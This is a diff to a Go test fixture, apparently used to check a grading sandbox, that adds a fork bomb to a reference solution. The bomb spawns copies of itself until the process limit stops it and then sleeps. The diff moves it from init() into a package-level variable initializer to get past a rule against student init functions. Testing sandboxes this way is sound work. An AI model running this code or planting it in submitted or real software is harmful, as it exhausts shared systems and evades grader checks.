@@ -1,21 +1,22 @@
-// Hostile code appended to the a3 reference solution: the test grades the
+// Hostile code added to the a3 reference solution: the test grades the
 // reference plus this file as one submission. See adversarial_test.go.
+// Student files may not declare init, so the attack runs in a package-level
+// variable's initializer, which Go runs just as early.
 package main
 
 import (
 	"os"
-	"os/exec"
 	"time"
 )
 
-// init starts copies of itself until the process limit stops it, then
+// bomb starts copies of itself until the process limit stops it, then
 // waits.
-func init() {
+var bomb = func() bool {
 	for i := 0; i < 100000; i++ {
-		cmd := exec.Command(os.Args[0])
-		if cmd.Start() != nil {
+		if _, err := os.StartProcess(os.Args[0], os.Args, &os.ProcAttr{}); err != nil {
 			break
 		}
 	}
 	time.Sleep(time.Hour)
-}
+	return true
+}()
